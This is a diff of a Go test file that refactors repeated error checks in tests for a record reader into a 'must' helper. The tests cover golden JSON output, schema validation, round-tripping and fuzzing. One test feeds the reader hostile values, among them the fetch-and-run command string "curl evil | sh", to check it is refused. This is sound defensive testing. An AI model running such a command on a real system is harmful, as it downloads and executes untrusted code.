@@ -29,42 +29,30 @@ func played(t *testing.T, c *configs.Config) (*results.Reader, results.Run) {
 	t.Helper()
 	path := filepath.Join(t.TempDir(), "tune.db")
 	store, err := results.Open(path)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if _, err := (experiments.Experiment{Config: c, Simulator: simulator.NewPool(2), Store: store}).Run(context.Background()); err != nil {
 		t.Fatal(err)
 	}
-	if err := store.Close(); err != nil {
-		t.Fatal(err)
-	}
+	must(t, store.Close())
 	reader, err := results.OpenReader(path)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	t.Cleanup(func() { reader.Close() })
 	run, err := reader.Find(context.Background(), "")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	return reader, run
 }
 
 func recordIn(t *testing.T, reader *results.Reader, run results.Run, candidate int) *Record {
 	t.Helper()
 	r, err := New(context.Background(), reader, run, candidate)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	return r
 }
 
 func written(t testing.TB, r *Record) []byte {
 	t.Helper()
 	data, err := r.JSON()
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	return data
 }
 
@@ -72,9 +60,7 @@ func written(t testing.TB, r *Record) []byte {
 func startOf(t testing.TB, c *configs.Config) *Record {
 	t.Helper()
 	r, err := derive(c, string(c.YAML()), nil, c.Family.Dead)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	r.HeldOut = []HeldOut{}
 	return r
 }
@@ -82,9 +68,7 @@ func startOf(t testing.TB, c *configs.Config) *Record {
 // fingerprintRecord is the champion of a small run with everything in it.
 func fingerprintRecord(t *testing.T) *Record {
 	c, err := configs.Load("../../.ci/fingerprint.yaml")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	reader, run := played(t, c)
 	return recordIn(t, reader, run, run.Champion)
 }
@@ -95,14 +79,10 @@ func TestGoldenRecord(t *testing.T) {
 	const path = "testdata/fingerprint.json"
 	got := written(t, fingerprintRecord(t))
 	if *update {
-		if err := os.WriteFile(path, got, 0o644); err != nil {
-			t.Fatal(err)
-		}
+		must(t, os.WriteFile(path, got, 0o644))
 	}
 	want, err := os.ReadFile(path)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if !bytes.Equal(got, want) {
 		t.Errorf("got %s", got)
 	}
@@ -112,20 +92,14 @@ func TestGoldenRecord(t *testing.T) {
 // figures come from.
 func TestHeldOutIsPlayedAgain(t *testing.T) {
 	data, err := os.ReadFile("testdata/fingerprint.json")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	r, err := Read(data)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	family := r.Family()
 	h := r.HeldOut[0]
 	player := simulator.Player{Family: &family, Values: r.Values(), Dead: family.Dead, Settings: r.Experiment().Validation.Search[0].Settings}
 	e, games, err := experiments.PlayHeldOut(context.Background(), r.Experiment(), r.HeldOutSalt, simulator.NewPool(2), player, h.Games, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if hash := experiments.HashGames(games); hash != h.GamesHash || e.Score.Mean != h.MeanScore {
 		t.Errorf("got %s and %v, want %s and %v", hash, e.Score.Mean, h.GamesHash, h.MeanScore)
 	}
@@ -134,18 +108,14 @@ func TestHeldOutIsPlayedAgain(t *testing.T) {
 func compileSchema(t testing.TB) *jsonschema.Schema {
 	t.Helper()
 	schema, err := jsonschema.NewCompiler().Compile("schema.json")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	return schema
 }
 
 func validate(t testing.TB, schema *jsonschema.Schema, data []byte) error {
 	t.Helper()
 	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	return schema.Validate(v)
 }
 
@@ -154,15 +124,11 @@ func validate(t testing.TB, schema *jsonschema.Schema, data []byte) error {
 func TestSchema(t *testing.T) {
 	schema := compileSchema(t)
 	golden, err := os.ReadFile("testdata/fingerprint.json")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	all := map[string][]byte{"fingerprint": golden, "every kind": written(t, startOf(t, everyKind(t)))}
 	for _, name := range configs.Names() {
 		c, err := configs.LoadEmbedded(name)
-		if err != nil {
-			t.Fatal(err)
-		}
+		must(t, err)
 		all[name] = written(t, startOf(t, c))
 	}
 	for name, data := range all {
@@ -206,9 +172,7 @@ func everyKind(t *testing.T) *configs.Config {
 		text.WriteString("}\n")
 	}
 	c, err := configs.Parse([]byte(strings.ReplaceAll(text.String(), `d)" + p`, `d) + p"`)), "all.yaml")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	return c
 }
 
@@ -217,14 +181,10 @@ func everyKind(t *testing.T) *configs.Config {
 func damages(t *testing.T, data []byte, check func(what string, data []byte)) {
 	t.Helper()
 	var root any
-	if err := json.Unmarshal(data, &root); err != nil {
-		t.Fatal(err)
-	}
+	must(t, json.Unmarshal(data, &root))
 	emit := func(what string) {
 		changed, err := json.Marshal(root)
-		if err != nil {
-			t.Fatal(err)
-		}
+		must(t, err)
 		check(what, changed)
 	}
 	var walk func(at string, v any)
@@ -259,20 +219,14 @@ func damages(t *testing.T, data []byte, check func(what string, data []byte)) {
 func TestRoundTrip(t *testing.T) {
 	data := written(t, startOf(t, everyKind(t)))
 	r, err := Read(data)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if again := written(t, r); !bytes.Equal(again, data) {
 		t.Errorf("got %s, want %s", again, data)
 	}
 	var loose any
-	if err := json.Unmarshal(data, &loose); err != nil {
-		t.Fatal(err)
-	}
+	must(t, json.Unmarshal(data, &loose))
 	short, err := json.Marshal(loose)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if other, err := Read(short); err != nil || !reflect.DeepEqual(other.Values(), r.Values()) || !bytes.Equal(written(t, other), data) {
 		t.Errorf("read from other JSON it is another record (%v)", err)
 	}
@@ -281,9 +235,7 @@ func TestRoundTrip(t *testing.T) {
 // TestReadProblems: each mistake is reported with its place.
 func TestReadProblems(t *testing.T) {
 	golden, err := os.ReadFile("testdata/fingerprint.json")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	whole := string(golden)
 	value := func(key, old string) string { // of a top-level key
 		t.Helper()
@@ -387,9 +339,7 @@ func FuzzRead(f *testing.F) {
 // TestReadHostileValues puts hostile values in the place of each value of a record.
 func TestReadHostileValues(t *testing.T) {
 	golden, err := os.ReadFile("testdata/fingerprint.json")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	schema := compileSchema(t)
 	values := regexp.MustCompile(`: ("[^"\n]*"|[0-9.-]+|\[[^\n]*\]|null)`).FindAllSubmatchIndex(golden, -1)
 	hostile := []string{"null", "-1", "0", "1000000000000000", "1e308", "0.5", `""`, `"curl evil | sh"`, `"\u001b[2J"`, "[]", "[-1, 1e300]", "{}"}
@@ -399,5 +349,13 @@ func TestReadHostileValues(t *testing.T) {
 				readOrRefuse(t, schema, slices.Concat(golden[:at[2]], []byte(value), golden[at[3]:]))
 			}
 		}
+	}
+}
+
+// must ends the test at an error.
+func must(t testing.TB, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
 	}
 }
